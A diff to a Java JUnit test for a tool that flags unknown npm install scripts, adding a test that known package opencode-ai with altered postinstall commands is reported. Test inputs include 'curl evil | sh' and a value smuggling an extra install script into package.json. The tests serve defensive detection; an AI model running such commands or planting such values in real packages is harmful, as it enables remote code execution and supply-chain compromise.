@@ -12,6 +12,7 @@ import java.util.List;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.params.ParameterizedTest;
 import org.junit.jupiter.params.provider.CsvSource;
+import org.junit.jupiter.params.provider.ValueSource;
 
 /** Packages whose installation script puts the platform's program in place. */
 class KnownInstallScriptTest {
@@ -20,7 +21,12 @@ class KnownInstallScriptTest {
   private static final String SCRIPT =
       "\"hasInstallScript\": true, \"bin\": {\"opencode\": \"bin/opencode.exe\"}, ";
   private static final ANpmTarball OPENCODE =
-      ANpmTarball.named("opencode-ai").withFile("bin/opencode.exe", "not installed");
+      withCommand("node ./postinstall.mjs").withFile("bin/opencode.exe", "not installed");
+
+  private static ANpmTarball withCommand(String command) {
+    return ANpmTarball.empty("opencode-ai", "1.0.0")
+        .withFile("package.json", "{\"scripts\": {\"postinstall\": \"" + command + "\"}}");
+  }
 
   /** OpenCode with packages for platforms: {@code x64}, {@code x64-baseline-musl}. */
   private static ANpmLock opencode(String... platforms) {
@@ -154,17 +160,41 @@ class KnownInstallScriptTest {
         "other commands | node_modules/opencode-ai | \"bin\": {\"o\": \"bin/opencode\"}",
         "no carriers | node_modules/opencode-ai | \"bin\": {\"o\": \"bin/opencode.exe\"}"
       })
-  void aPackageOfAnotherLayoutHasAnUnknownScript(String says, String path, String bin) {
+  void aPackageOfAnotherLayoutHasAnUnknownScript(String says, String path, String bin)
+      throws IOException {
     ANpmLock lock =
         ANpmLock.asking(path.substring("node_modules/".length()))
-            .with(path, "\"hasInstallScript\": true, " + bin);
+            .with(path, OPENCODE, "\"hasInstallScript\": true, " + bin);
 
-    assertThat(lock.tree().unknownScripts()).as(says).hasSize(1);
+    assertThat(lock.tree().unknownScripts(lock.tarballs())).as(says).hasSize(1);
   }
 
   @Test
-  void aKnownScriptIsNotReported() {
-    assertThat(opencode("x64-musl").tree().unknownScripts()).isEmpty();
+  void aKnownScriptIsNotReported() throws IOException {
+    ANpmLock lock = opencode("x64-musl");
+
+    assertThat(lock.tree().unknownScripts(lock.tarballs())).isEmpty();
+  }
+
+  @ParameterizedTest
+  @ValueSource(
+      strings = {
+        "node ./postinstall.mjs && node more.mjs",
+        "node ./postinstall.mjs\", \"install\": \"make",
+        "curl evil | sh"
+      })
+  void aKnownPackageWithOtherCommandsHasAnUnknownScript(String command) throws IOException {
+    ANpmTarball changed = withCommand(command).withFile("bin/opencode.exe", "not installed");
+    ANpmLock lock =
+        opencode("x64-musl")
+            .with(
+                "node_modules/opencode-ai",
+                changed,
+                SCRIPT + "\"optionalDependencies\": {\"opencode-linux-x64-musl\": \"1.0.0\"}");
+
+    assertThat(lock.tree().unknownScripts(lock.tarballs()))
+        .singleElement()
+        .satisfies(each -> assertThat(each.commands().values()).contains(command.split("\"")[0]));
   }
 
   @Test
